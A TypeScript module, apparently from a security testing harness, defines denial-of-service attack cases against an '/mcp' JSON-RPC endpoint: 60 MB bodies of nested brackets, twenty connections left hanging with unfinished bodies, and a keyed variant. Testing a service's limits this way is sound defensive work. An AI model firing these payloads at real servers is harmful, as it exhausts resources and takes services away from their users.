import type { Attack, Caller } from "../attack.ts";
import { headOf, type Shot } from "../request.ts";
import { run } from "./bytes.ts";

const SIZE = 60_000_000;
const CALL = '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"uuid_v4","arguments":{"n":';

function message({ cached, keys }: Caller, unit: string, withheld: number, isKeyed = false): Shot {
  const body = cached(`mcp ${unit}`, () => run(CALL, unit, SIZE));
  const head = headOf("POST", "/mcp", {
    "Content-Type": "application/json",
    Accept: "application/json, text/event-stream",
    "Content-Length": body.length,
    ...(isKeyed ? { "X-API-Key": keys[0] ?? "" } : {}),
  });
  return { head, body, withheld };
}

/** C1: messages to /mcp. */
export const mcpAttacks: readonly Attack[] = [
  {
    id: "C1 nested",
    title: "60 MB of [[[[ at /mcp without a key",
    shot: (caller) => message(caller, "[", 0),
  },
  {
    id: "C1 unfinished",
    title: "20 unfinished bodies of 60 MB at /mcp without a key",
    connections: 20,
    isUnfinished: true,
    shot: (caller) => message(caller, "x", 1_000_000),
  },
  {
    id: "C1 with a key",
    title: "60 MB of [[[[ and of a list at /mcp with a key",
    isPaid: true,
    shot: (caller, i) => message(caller, i % 2 === 0 ? "[" : "0,", 0, true),
  },
];
